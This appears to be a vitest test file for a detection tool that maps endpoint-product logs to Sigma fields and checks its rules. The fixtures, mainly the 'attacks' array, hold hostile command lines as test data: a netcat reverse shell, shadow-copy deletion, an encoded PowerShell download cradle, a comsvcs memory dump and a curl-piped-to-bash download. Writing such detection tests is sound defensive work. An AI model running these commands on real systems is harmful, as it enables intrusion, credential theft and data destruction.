import { beforeAll, describe, expect, it } from 'vitest';
import { analyze } from '../../analyze.ts';
import { ProcessEvents, processOf } from '../../derived/process-events.ts';
import { processTree } from '../../derived/process-tree.ts';
import { readRuleFiles } from '../../node.ts';
import { type LoadedRules, loadRules } from '../../sigma/load-rules.ts';
import { firstRecord, type FirstRecord, readAll, sourceOf } from '../../testing/index.ts';
import { detectLogType } from '../detect-log-type.ts';
import { readerFor } from '../readers.ts';

const iso = '2026-03-04T08:15:00.123Z';
const ms = Date.parse(iso);
const md5 = 'ab'.repeat(16);
const sha256 = 'cd'.repeat(32);
const line = (record: object): string => JSON.stringify(record);
/** A start of a process. */
interface Start {
  readonly image: string;
  readonly command: string;
  readonly parent: string;
}
const baseOf = (path: string): string => path.slice(Math.max(path.lastIndexOf('\\'), path.lastIndexOf('/')) + 1);
const isWindows = ({ image }: Start): boolean => image.includes('\\');

const ecs = (event: object, more: object, os = 'windows'): string =>
  line({
    '@timestamp': iso,
    event: { kind: 'event', module: 'endpoint', ...event },
    host: { name: 'ws1', os: { type: os } },
    user: { name: 'bob', domain: 'CORP' },
    ...more,
  });
const falcon = (name: string, more: object, platform = 'Win'): string =>
  line({
    event_simpleName: name,
    event_platform: platform,
    aid: 'a1',
    ComputerName: 'ws1',
    timestamp: String(ms + 900),
    ContextTimeStamp: '1772612100.123',
    ...more,
  });
const singularity = (type: string, more: object, os = 'windows'): string =>
  line({ 'event.time': ms, 'event.type': type, 'endpoint.os': os, 'endpoint.name': 'ws1', ...more });
const cloud = (type: string, more: object, os = 'WINDOWS'): string =>
  line({
    type: `endpoint.event.${type}`,
    device_timestamp: '2026-03-04 08:15:00.123 +0000 UTC',
    device_name: 'CORP\\ws1',
    device_os: os,
    process_guid: 'g4',
    process_path: 'c:\\windows\\system32\\cmd.exe',
    process_cmdline: 'cmd',
    process_username: 'CORP\\bob',
    ...more,
  });
const edr = (type: string, more: object): string =>
  line({ type: `ingress.event.${type}`, timestamp: ms / 1000, computer_name: 'ws1', process_guid: 'g4', ...more });
const osquery = (columns: object, more: object = {}): string =>
  line({ name: 'pack_x', hostIdentifier: 'ws1', unixTime: ms / 1000, counter: 3, action: 'added', columns, ...more });

const cmd = { image: 'C:\\Windows\\System32\\whoami.exe', command: 'whoami /all', parent: 'C:\\Windows\\cmd.exe' };
const ls = { image: '/usr/bin/ls', command: 'ls -l', parent: '/bin/bash' };
const dd = { image: '/bin/dd', command: 'dd if=/dev/zero', parent: '/Users/bob/x' };

/** What writes the start of a process, by product. */
const starts: Readonly<Record<string, (start: Start, system: 'windows' | 'linux' | 'macos') => string>> = {
  'Elastic Defend': ({ image, command, parent }, system) =>
    ecs(
      { category: ['process'], type: ['start'], action: 'start' },
      {
        agent: { type: 'endpoint' },
        process: {
          executable: image,
          command_line: command,
          hash: { md5, sha256 },
          parent: { executable: parent, command_line: 'p' },
        },
      },
      system,
    ),
  'the Elastic Common Schema with dots in its keys': ({ image, command, parent }, system) =>
    line({
      '@timestamp': iso,
      'event.category': 'process',
      'event.type': 'start',
      'host.name': 'ws1',
      'host.os.family': { windows: 'windows', linux: 'debian', macos: 'darwin' }[system],
      'process.executable': image,
      'process.args': command.split(' '),
      'process.parent.executable': parent,
      'process.parent.command_line': 'p',
      'process.hash.md5': md5,
      'process.hash.sha256': sha256,
      'user.name': 'bob',
      'user.domain': 'CORP',
    }),
  Falcon: ({ image, command, parent }, system) =>
    falcon(
      'ProcessRollup2',
      {
        ImageFileName: image.replace('C:', '\\Device\\HarddiskVolume3'),
        CommandLine: command,
        ParentBaseFileName: baseOf(parent),
        ParentCommandLine: 'p',
        UserName: 'CORP\\bob',
        MD5HashData: md5,
        SHA1HashData: '0'.repeat(40),
        SHA256HashData: sha256,
      },
      { windows: 'Win', linux: 'Lin', macos: 'Mac' }[system],
    ),
  SentinelOne: ({ image, command, parent }, system) =>
    singularity(
      'Process Creation',
      {
        'tgt.process.image.path': image,
        'tgt.process.cmdline': command,
        'tgt.process.user': 'CORP\\bob',
        'tgt.process.image.md5': md5,
        'tgt.process.image.sha256': sha256,
        'src.process.image.path': parent,
        'src.process.cmdline': 'p',
      },
      system === 'macos' ? 'osx' : system,
    ),
  'Deep Visibility': ({ image, command, parent }, system) =>
    line({
      createdAt: iso,
      eventType: 'Process Creation',
      agentOs: system === 'macos' ? 'osx' : system,
      agentName: 'ws1',
      tgtProcImagePath: image,
      tgtProcCmdLine: command,
      tgtProcUser: 'CORP\\bob',
      tgtProcImageMd5: md5,
      tgtProcImageSha256: sha256,
      srcProcImagePath: parent,
      srcProcName: baseOf(parent),
      srcProcCmdLine: 'p',
    }),
  'Carbon Black Cloud': ({ image, command, parent }, system) =>
    cloud(
      'procstart',
      {
        process_path: parent,
        process_cmdline: 'p',
        childproc_name: image,
        target_cmdline: command,
        childproc_username: 'CORP\\bob',
        childproc_hash: [md5, sha256],
      },
      { windows: 'WINDOWS', linux: 'LINUX', macos: 'MAC' }[system],
    ),
  'Carbon Black EDR': ({ image, command, parent }) =>
    edr('procstart', {
      path: image,
      command_line: command,
      parent_path: parent,
      parent_cmdline: 'p',
      username: 'CORP\\bob',
      md5: md5.toUpperCase(),
      sha256: sha256.toUpperCase(),
    }),
  osquery: ({ image, command, parent }, system) =>
    osquery(
      {
        pid: '10',
        parent: '4',
        path: image,
        cmdline: command,
        parent_path: parent,
        parent_cmdline: 'p',
        username: 'CORP\\bob',
        md5,
        sha256,
      },
      { decorations: { platform: { windows: 'windows', linux: 'ubuntu', macos: 'darwin' }[system] } },
    ),
};

const productsAndSystems = Object.entries(starts).flatMap(([name, write]) =>
  ([cmd, ls, dd] as const).flatMap((start, at) => {
    const system = (['windows', 'linux', 'macos'] as const)[at]!;
    // EDR's forwarder names no system, and a path in /bin may be of either.
    return name === 'Carbon Black EDR' && system === 'macos' ? [] : [[name, system, start, write] as const];
  }),
);

describe('starts of processes', () => {
  it.each(productsAndSystems)('%s, %s', async (name, system, start, write) => {
    const found = await firstRecord(write(start, system), [
      'Image',
      'CommandLine',
      'ParentImage',
      'ParentCommandLine',
      'User',
      'Hashes',
      'Computer',
    ]);
    const { ParentImage, Computer: _, ...fields } = found.fields;
    expect({ from: found.from, fields }).toEqual({
      from: `${system}/process_creation`,
      fields: {
        Image: start.image,
        CommandLine: start.command,
        ParentCommandLine: 'p',
        User: 'CORP\\bob',
        Hashes: `MD5=${md5.toUpperCase()},SHA256=${sha256.toUpperCase()}`,
      },
    });
    // Falcon tells the name only, behind which rules ask for the end of a path.
    const separator = isWindows(start) ? '\\' : '/';
    expect(ParentImage).toBe(name === 'Falcon' ? `${separator}${baseOf(start.parent)}` : start.parent);
    expect(found.time?.slice(0, 19)).toBe('2026-03-04T08:15:00');
    const { heads } = await readAll(readerFor(found.type as 'json')!, write(start, system));
    expect(heads[0]!.computer).toBe('ws1');
  });
});

const runKey = 'S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const endpointFile = { executable: 'C:\\x\\a.exe', command_line: 'a /x' };
const others: [string, string, Pick<FirstRecord, 'from' | 'fields'>][] = [
  [
    'a connection, Elastic Defend',
    ecs(
      { category: ['network'], type: ['start'], action: 'connection_attempted' },
      {
        process: endpointFile,
        source: { ip: '192.0.2.1', port: 50_000 },
        destination: { ip: '192.0.2.2', port: 443 },
        network: { transport: 'tcp', direction: 'egress' },
      },
    ),
    {
      from: 'windows/network_connection',
      fields: {
        Image: 'C:\\x\\a.exe',
        DestinationIp: '192.0.2.2',
        DestinationPort: '443',
        SourceIp: '192.0.2.1',
        Protocol: 'tcp',
        Initiated: 'true',
        User: 'CORP\\bob',
      },
    },
  ],
  [
    'a name asked for, Elastic Defend',
    ecs(
      { category: ['network'], type: ['protocol', 'info'], action: 'lookup_result' },
      { process: endpointFile, dns: { question: { name: 'a.example', type: 'TXT' }, resolved_ip: ['192.0.2.9'] } },
    ),
    {
      from: '-/dns',
      fields: { QueryName: 'a.example', query: 'a.example', record_type: 'TXT', QueryResults: '192.0.2.9' },
    },
  ],
  [
    'a value of the registry, Elastic Defend',
    ecs(
      { category: ['registry'], type: ['change'], action: 'modification' },
      {
        process: endpointFile,
        registry: {
          path: `HKEY_USERS\\${runKey}\\U`,
          value: 'U',
          data: { type: 'REG_DWORD', strings: ['4'] },
        },
      },
    ),
    {
      from: 'windows/registry_set',
      fields: { TargetObject: `HKU\\${runKey}\\U`, Details: 'DWORD (0x00000004)', EventType: 'SetValue' },
    },
  ],
  [
    'a library, Elastic Defend',
    ecs(
      { category: ['library'], type: ['start'], action: 'load' },
      { process: endpointFile, dll: { path: 'C:\\x\\a.dll', hash: { md5 } } },
    ),
    {
      from: 'windows/image_load',
      fields: { ImageLoaded: 'C:\\x\\a.dll', Image: 'C:\\x\\a.exe', Hashes: `MD5=${md5.toUpperCase()}` },
    },
  ],
  [
    'a file, Auditbeat',
    ecs(
      { module: 'file_integrity', category: ['file'], type: ['creation'], action: ['created'] },
      { agent: { type: 'auditbeat' }, file: { path: '/etc/cron.d/x' } },
      'linux',
    ),
    { from: 'linux/file_event', fields: { TargetFilename: '/etc/cron.d/x' } },
  ],
  [
    'a start, Auditbeat',
    ecs(
      { module: 'auditd', category: ['process'], type: ['start'], action: 'executed' },
      { process: { executable: '/bin/nc', args: ['nc', '-e', '/bin/sh'], title: 'nc -e' }, auditd: {} },
      'linux',
    ),
    { from: 'linux/process_creation', fields: { Image: '/bin/nc', CommandLine: 'nc -e /bin/sh' } },
  ],
  [
    'a fork, which runs nothing new, Elastic Defend',
    ecs(
      { category: ['process'], type: ['start'], action: 'fork' },
      { process: { executable: '/bin/sh', command_line: 'sh' } },
      'linux',
    ),
    { from: 'linux/-', fields: { CommandLine: 'sh' } },
  ],
  [
    'a connection of a program that is named, Falcon',
    falcon('NetworkConnectIP4', {
      ContextBaseFileName: 'a.exe',
      RemoteAddressIP4: '192.0.2.2',
      RemotePort: '443',
      LocalAddressIP4: '192.0.2.1',
      Protocol: '6',
    }),
    {
      from: 'windows/network_connection',
      fields: {
        Image: '\\a.exe',
        DestinationIp: '192.0.2.2',
        DestinationPort: '443',
        Protocol: 'tcp',
        Initiated: 'true',
      },
    },
  ],
  [
    'the level of a process, Falcon',
    falcon('ProcessRollup2', { ImageFileName: 'C:\\a.exe', IntegrityLevel: '12288' }),
    { from: 'windows/process_creation', fields: { IntegrityLevel: 'High', Image: 'C:\\a.exe' } },
  ],
  [
    'a connection of a program that is not named, Falcon',
    falcon('NetworkReceiveAcceptIP4', { RemoteAddressIP4: '192.0.2.2', RemotePort: '5', LocalPort: '22' }),
    { from: '-/firewall', fields: { dst_ip: '192.0.2.2', src_port: '22', blocked: 'false', Image: undefined } },
  ],
  [
    'a name asked for, Falcon',
    falcon('DnsRequest', { DomainName: 'a.example', IP4Records: '192.0.2.9;', ContextBaseFileName: 'a.exe' }),
    { from: '-/dns', fields: { QueryName: 'a.example', query: 'a.example', QueryResults: '192.0.2.9;' } },
  ],
  [
    'a name asked for by nobody knows whom, Falcon',
    falcon('DnsRequest', { DomainName: 'a.example' }),
    { from: '-/dns', fields: { query: 'a.example' } },
  ],
  [
    'a program written, Falcon',
    falcon('NewExecutableWritten', { TargetFileName: '\\Device\\HarddiskVolume3\\Users\\bob\\a.exe' }),
    { from: 'windows/file_event', fields: { TargetFilename: 'C:\\Users\\bob\\a.exe' } },
  ],
  [
    'a file of another volume, Falcon',
    falcon('ZipFileWritten', { TargetFileName: '\\Device\\HarddiskVolume7\\data\\a.zip' }),
    { from: 'windows/file_event', fields: { TargetFilename: '\\Device\\HarddiskVolume7\\data\\a.zip' } },
  ],
  [
    'a program removed, Falcon',
    falcon('ExecutableDeleted', { TargetFileName: '/tmp/a' }, 'Lin'),
    { from: 'linux/file_delete', fields: { TargetFilename: '/tmp/a' } },
  ],
  [
    'a value of the registry, Falcon',
    falcon('AsepValueUpdate', {
      RegOperationType: '1',
      RegObjectName: `\\REGISTRY\\USER\\${runKey}`,
      RegValueName: 'U',
      RegStringValue: 'C:\\u.exe',
      RegType: '1',
      UserSid: 'S-1-5-18',
    }),
    {
      from: 'windows/registry_set',
      fields: { TargetObject: `HKU\\${runKey}\\U`, Details: 'C:\\u.exe', User: 'NT AUTHORITY\\SYSTEM' },
    },
  ],
  [
    'a value removed, Falcon',
    falcon('RegGenericValueUpdate', {
      RegOperationType: '2',
      RegObjectName: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\x',
      RegValueName: 'Start',
    }),
    {
      from: 'windows/registry_delete',
      fields: { TargetObject: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\\Start', EventType: 'DeleteValue' },
    },
  ],
  [
    'a script of PowerShell, Falcon beneath what a collector says',
    line({
      p_log_type: 'x',
      aid: 'a1',
      event: JSON.parse(
        falcon('ScriptControlScanTelemetry', {
          ImageFileName: '\\Device\\HarddiskVolume3\\Windows\\powershell.exe',
          ScriptContent: 'iex $x',
        }),
      ) as object,
    }),
    { from: 'windows/ps_script', fields: { ScriptBlockText: 'iex $x' } },
  ],
  [
    'a connection of a phone, Falcon',
    falcon('NetworkConnectIP4', { RemoteAddressIP4: '192.0.2.2' }, 'iOS'),
    { from: ' ', fields: { RemoteAddressIP4: '192.0.2.2' } },
  ],
  [
    'a connection, SentinelOne',
    singularity('IP Connect', {
      'src.process.image.path': 'C:\\x\\a.exe',
      'src.process.user': 'CORP\\bob',
      'dst.ip.address': '192.0.2.2',
      'dst.port.number': 443,
      'event.network.direction': 'INCOMING',
    }),
    {
      from: 'windows/network_connection',
      fields: { Image: 'C:\\x\\a.exe', DestinationIp: '192.0.2.2', Initiated: 'false', User: 'CORP\\bob' },
    },
  ],
  [
    'a name asked for, SentinelOne',
    singularity('DNS Resolved', {
      'event.dns.request': 'type:  28 a.example',
      'event.dns.response': 'type:  5 b.example;192.0.2.9;',
    }),
    { from: '-/dns', fields: { QueryName: 'a.example', QueryResults: 'b.example;192.0.2.9;' } },
  ],
  [
    'a file renamed, SentinelOne',
    singularity('File Rename', { 'tgt.file.path': 'C:\\x.locked', 'tgt.file.oldPath': 'C:\\x' }),
    { from: 'windows/file_rename', fields: { TargetFilename: 'C:\\x.locked', SourceFilename: 'C:\\x' } },
  ],
  [
    'a file, SentinelOne on macOS',
    singularity('File Creation', { 'tgt.file.path': '/Library/LaunchDaemons/x.plist' }, 'osx'),
    { from: 'macos/file_event', fields: { TargetFilename: '/Library/LaunchDaemons/x.plist' } },
  ],
  [
    'a value of the registry, SentinelOne with objects',
    line({
      event: { time: ms, type: 'Registry Value Modified' },
      endpoint: { os: 'windows', name: 'ws1' },
      registry: { keyPath: `USER\\${runKey}\\U`, value: '1', valueType: 'DWORD' },
    }),
    { from: 'windows/registry_set', fields: { TargetObject: `HKU\\${runKey}\\U`, Details: 'DWORD (0x00000001)' } },
  ],
  [
    'a pipe, SentinelOne',
    singularity('Named Pipe Creation', { 'namedPipe.name': 'msagent_1' }),
    { from: 'windows/pipe_created', fields: { PipeName: '\\msagent_1' } },
  ],
  [
    'a script of PowerShell, SentinelOne',
    singularity('Command Script', { 'cmdScript.content': 'iex $x', 'cmdScript.applicationName': 'PowerShell_C:\\p' }),
    { from: 'windows/ps_script', fields: { ScriptBlockText: 'iex $x' } },
  ],
  [
    'a file, Carbon Black Cloud',
    cloud('filemod', { action: 'ACTION_FILE_CREATE | ACTION_FILE_WRITE', filemod_name: 'c:\\x\\a.ps1' }),
    {
      from: 'windows/file_event',
      fields: { TargetFilename: 'c:\\x\\a.ps1', Image: 'c:\\windows\\system32\\cmd.exe', User: 'CORP\\bob' },
    },
  ],
  [
    'a connection, Carbon Black Cloud',
    cloud('netconn', { remote_ip: '192.0.2.2', remote_port: 443, netconn_domain: 'a.example', netconn_inbound: true }),
    {
      from: 'windows/network_connection',
      fields: { DestinationIp: '192.0.2.2', DestinationHostname: 'a.example', Initiated: 'false' },
    },
  ],
  [
    'another process opened, Carbon Black Cloud',
    cloud('crossproc', { action: 'ACTION_OPEN_PROCESS_HANDLE', crossproc_name: 'c:\\windows\\system32\\lsass.exe' }),
    {
      from: 'windows/process_access',
      fields: { SourceImage: 'c:\\windows\\system32\\cmd.exe', TargetImage: 'c:\\windows\\system32\\lsass.exe' },
    },
  ],
  [
    'a value of the registry, Carbon Black EDR',
    edr('regmod', { action: 'writeval', path: `\\registry\\user\\${runKey}\\u`, process_path: 'c:\\x\\a.exe' }),
    { from: 'windows/registry_set', fields: { TargetObject: `HKU\\${runKey}\\u`, Image: 'c:\\x\\a.exe' } },
  ],
  [
    'a connection, Carbon Black EDR on Linux',
    edr('netconn', { process_path: '/usr/bin/nc', remote_ip: '192.0.2.2', remote_port: 4444, direction: 'outbound' }),
    {
      from: 'linux/network_connection',
      fields: { Image: '/usr/bin/nc', DestinationIp: '192.0.2.2', DestinationPort: '4444', Initiated: 'true' },
    },
  ],
  [
    'a connection, osquery',
    osquery({
      action: 'connect',
      pid: '10',
      path: '/usr/bin/nc',
      remote_address: '192.0.2.2',
      remote_port: '4444',
      time: String(ms / 1000),
    }),
    { from: 'linux/network_connection', fields: { Image: '/usr/bin/nc', DestinationIp: '192.0.2.2' } },
  ],
  [
    'a file, osquery',
    osquery({ action: 'CREATED', target_path: '/etc/cron.d/x', uid: '0', category: 'etc' }),
    { from: 'linux/file_event', fields: { TargetFilename: '/etc/cron.d/x', User: 'root' } },
  ],
  [
    'a value of the registry, osquery',
    osquery({ key: `HKEY_USERS\\${runKey}`, name: 'U', type: 'REG_SZ', data: 'C:\\u.exe' }),
    { from: 'windows/registry_set', fields: { TargetObject: `HKU\\${runKey}\\U`, Details: 'C:\\u.exe' } },
  ],
  [
    'a value that was there when the query ran first, osquery',
    osquery({ key: `HKEY_USERS\\${runKey}`, name: 'U', type: 'REG_SZ', data: 'C:\\u.exe' }, { counter: 0 }),
    { from: 'windows/-', fields: { 'columns.data': 'C:\\u.exe' } },
  ],
  [
    'a process that is gone, osquery',
    osquery({ pid: '10', path: '/usr/bin/nc', cmdline: 'nc' }, { action: 'removed' }),
    { from: 'linux/-', fields: { 'columns.cmdline': 'nc' } },
  ],
  [
    'a Windows event, osquery',
    osquery({
      eventid: '4688',
      source: 'Security',
      provider_name: 'Microsoft-Windows-Security-Auditing',
      datetime: iso,
      computer_name: 'ws1',
      data: '{"EventData":{"NewProcessName":"C:\\\\x.exe"}}',
    }),
    { from: 'Security 4688', fields: { NewProcessName: 'C:\\x.exe', Computer: 'ws1' } },
  ],
];

describe('other records of endpoint products', () => {
  it.each(others)('%s', async (_, log, expected) => {
    const { from, fields, time } = await firstRecord(log, Object.keys(expected.fields));
    expect({ from, fields }).toEqual(expected);
    expect(time?.slice(0, 19)).toBe('2026-03-04T08:15:00');
  });

  it('are told from others by their keys: of services, of Windows under ECS names, of no product', async () => {
    const froms = [
      ecs({ category: ['iam'], action: 'x' }, { cloud: { provider: 'aws' } }),
      line({
        event: { code: '1', provider: 'Microsoft-Windows-Sysmon', category: 'process' },
        process: { executable: 'x' },
      }),
      line({ eventType: 'user.session.start', published: iso, actor: {}, outcome: {} }),
      line({ type: 'endpoint.event', process_guid: 'g' }),
      line({ hostIdentifier: 'h', name: 'x' }),
    ].map(async (log) => (await firstRecord(log, [])).from);
    expect(await Promise.all(froms)).toEqual([' ', ' ', 'okta/okta', ' ', ' ']);
  });

  it('may be rows of a table', async () => {
    const table = `event_simpleName,event_platform,ComputerName,ContextTimeStamp,ImageFileName,CommandLine\nProcessRollup2,Lin,ws1,1772612100.123,/bin/nc,nc -e\n`;
    const { type, from, fields } = await firstRecord(table, ['Image', 'CommandLine']);
    expect({ type, from, fields }).toEqual({
      type: 'csv',
      from: 'linux/process_creation',
      fields: { Image: '/bin/nc', CommandLine: 'nc -e' },
    });
  });

  it('of a snapshot or a batch of osquery are records of their own', async () => {
    const row = { pid: '1', path: '/bin/a', cmdline: 'a' };
    const base = { name: 'p', hostIdentifier: 'ws1', unixTime: ms / 1000 };
    const log = [
      line({ snapshot: [row, { ...row, pid: '2', cmdline: 'b' }], action: 'snapshot', ...base }),
      line({ diffResults: { added: [row], removed: [{ ...row, cmdline: 'c' }] }, ...base }),
      line({ snapshot: [], action: 'snapshot', ...base }),
    ].join('\n');
    const { records, report, heads } = await readAll(readerFor('json')!, log);
    expect(records.map((record) => record['columns.cmdline'])).toEqual(['a', 'b', 'a', undefined]);
    expect(report).toMatchObject({ records: 4, problems: [] });
    expect(new Set(heads.map(({ computer }) => computer))).toEqual(new Set(['ws1']));
  });

  it('of Elastic Defend are read among events of Winlogbeat', async () => {
    const winlogbeat = line({
      '@timestamp': iso,
      agent: { type: 'winlogbeat' },
      winlog: { channel: 'Security', event_id: '4688', event_data: { NewProcessName: 'C:\\x.exe' } },
    });
    const log = [winlogbeat, starts['Elastic Defend']!(cmd, 'windows')].join('\n');
    const from: string[] = [];
    const type = detectLogType(new TextEncoder().encode(log));
    await readAll(readerFor(type)!, log, ({ route }) => from.push(route.facts.at(-1)?.category ?? route.channel));
    expect(from).toEqual(['Security', 'process_creation']);
  });
});

describe('the process tree', () => {
  const child = {
    'Elastic Defend': (id: number, parent: number) =>
      ecs(
        { category: ['process'], type: ['start'], action: 'start' },
        {
          process: {
            executable: `/x/${id}`,
            pid: id,
            entity_id: `e${id}`,
            parent: { executable: `/x/${parent}`, entity_id: `e${parent}` },
          },
        },
        'linux',
      ),
    Falcon: (id: number, parent: number) =>
      falcon('ProcessRollup2', { ImageFileName: `/x/${id}`, TargetProcessId: `${id}`, ParentProcessId: `${parent}` }),
    SentinelOne: (id: number, parent: number) =>
      singularity('Process Creation', {
        'tgt.process.image.path': `/x/${id}`,
        'tgt.process.uid': `U${id}`,
        'src.process.uid': `U${parent}`,
        'src.process.image.path': `/x/${parent}`,
      }),
    'Carbon Black Cloud': (id: number, parent: number) =>
      cloud('procstart', { childproc_name: `/x/${id}`, childproc_guid: `g${id}`, process_guid: `g${parent}` }),
    'Carbon Black EDR': (id: number, parent: number) =>
      edr('procstart', { path: `/x/${id}`, process_guid: `g${id}`, parent_guid: `g${parent}` }),
    osquery: (id: number, parent: number) =>
      osquery({ pid: `${id}`, parent: `${parent}`, path: `/x/${id}`, cmdline: 'x' }),
  };

  it.each(Object.entries(child))('%s', async (_, write) => {
    const log = [write(2, 1), write(3, 2)].join('\n');
    const { heads, records } = await readAll(readerFor('json')!, log);
    const events = new ProcessEvents();
    for (const [at, head] of heads.entries()) {
      const event = processOf(head, records[at]!, [], at);
      if (event !== null) events.add(event);
    }
    const { roots } = processTree(events.events(), false);
    const parent = [...roots, ...roots.flatMap(({ children }) => children)].find(({ image }) => image === '2')!;
    expect(parent.children.map(({ image_full }) => image_full)).toEqual(['/x/3']);
    expect(parent.computer).toBe('ws1');
  });
});

const attacks: [string, string, Start][] = [
  [
    'Shadow Copies Or Recovery Options Removed',
    'windows',
    {
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      command: 'vssadmin delete shadows /all /quiet',
      parent: 'C:\\x\\a.exe',
    },
  ],
  [
    'PowerShell Started With An Encoded Command',
    'windows',
    {
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      command: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      parent: 'C:\\x\\a.exe',
    },
  ],
  [
    'Memory Dump Through Comsvcs',
    'windows',
    {
      image: 'C:\\Windows\\System32\\rundll32.exe',
      command: 'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x\\l.dmp full',
      parent: 'C:\\Windows\\System32\\cmd.exe',
    },
  ],
  [
    'Download Piped Into A Shell',
    'linux',
    { image: '/bin/bash', command: 'bash -c "curl -s http://192.0.2.7/x.sh | bash"', parent: '/usr/sbin/cron' },
  ],
];
const runKeys: Readonly<Record<string, string>> = {
  'Elastic Defend': ecs(
    { category: ['registry'], type: ['change'], action: 'modification' },
    {
      process: endpointFile,
      registry: { path: `HKEY_USERS\\${runKey}\\U`, value: 'U', data: { strings: ['C:\\Users\\Public\\u.exe'] } },
    },
  ),
  Falcon: falcon('AsepValueUpdate', {
    RegOperationType: '1',
    RegObjectName: `\\REGISTRY\\USER\\${runKey}`,
    RegValueName: 'U',
    RegStringValue: 'C:\\Users\\Public\\u.exe',
  }),
  SentinelOne: singularity('Registry Value Create', {
    'registry.keyPath': `USER\\${runKey}\\U`,
    'registry.value': 'C:\\Users\\Public\\u.exe',
    'src.process.image.path': 'C:\\x\\a.exe',
  }),
  osquery: osquery({ key: `HKEY_USERS\\${runKey}`, name: 'U', data: 'C:\\Users\\Public\\u.exe' }),
};

describe('rules of the core pack', () => {
  let loaded: LoadedRules;
  beforeAll(async () => {
    loaded = loadRules(await readRuleFiles(['config/sigma']));
  });
  const titles = async (log: string): Promise<string[]> => {
    const { findings, problems } = await analyze(sourceOf(new TextEncoder().encode(log)), {
      rules: loaded.rules,
      logType: 'auto',
      maxSamples: 1,
    });
    expect(problems).toEqual([]);
    return findings.map(({ ruleName }) => ruleName);
  };

  it.each(Object.entries(starts))('match attacks in what %s writes, and nothing ordinary', async (_, write) => {
    const written = attacks.map(([, system, start]) => write(start, system as 'windows'));
    expect(await titles(written.join('\n'))).toEqual(expect.arrayContaining(attacks.map(([title]) => title)));
    const notepad = {
      image: 'C:\\Windows\\System32\\notepad.exe',
      command: 'notepad a.txt',
      parent: 'C:\\Windows\\explorer.exe',
    };
    expect(await titles([write(notepad, 'windows'), write(ls, 'linux')].join('\n'))).toEqual([]);
  });

  it.each(Object.entries(runKeys))('match a run key in what %s writes', async (_, log) => {
    expect(await titles(log)).toContain('Autostart Registry Value With A Suspicious Command');
  });
});
